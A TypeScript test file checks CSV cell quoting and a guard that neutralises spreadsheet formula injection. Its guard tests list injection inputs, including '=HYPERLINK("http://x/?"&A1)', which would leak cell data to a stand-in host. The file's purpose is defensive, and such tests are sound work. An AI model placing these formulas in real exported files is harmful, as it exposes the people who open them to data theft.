// Cells as they are written: quoted when they must be, disarmed when a spreadsheet would run them.
import { describe, expect, test } from 'vitest';
import { encodeCell, guardCell } from '../../../src/intake/csv-cell.ts';
import { DELIMITERS } from '../../../src/model/list.ts';

describe('a cell is quoted', () => {
  test.each([
    ['a,b', '"a,b"'],
    ['a"b', '"a""b"'],
    ['a\nb', '"a\nb"'],
    ['a\rb', '"a\rb"'],
    ['"', '""""'],
  ])('when it must be: %j', (text, written) => {
    expect(encodeCell(text, ',')).toBe(written);
  });

  test.each(['', 'a', ' a ', 'a;b', 'a|b', 'é', "'"])('and only then: %j', (text) => {
    expect(encodeCell(text, ',')).toBe(text);
  });

  test('for each delimiter by itself', () => {
    for (const delimiter of DELIMITERS) {
      const quoted = DELIMITERS.filter((other) => encodeCell(other, delimiter) !== other);
      expect(quoted).toEqual([delimiter]);
    }
  });
});

describe('a formula is disarmed', () => {
  test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '=HYPERLINK("http://x/?"&A1)'])(
    '%j',
    (text) => {
      expect(guardCell(text)).toBe(`'${text}`);
    },
  );

  test.each(['', 'a', '1', "'=1", ' a', 'a=1', 'a@example.org'])('and nothing else: %j', (text) => {
    expect(guardCell(text)).toBe(text);
  });
});
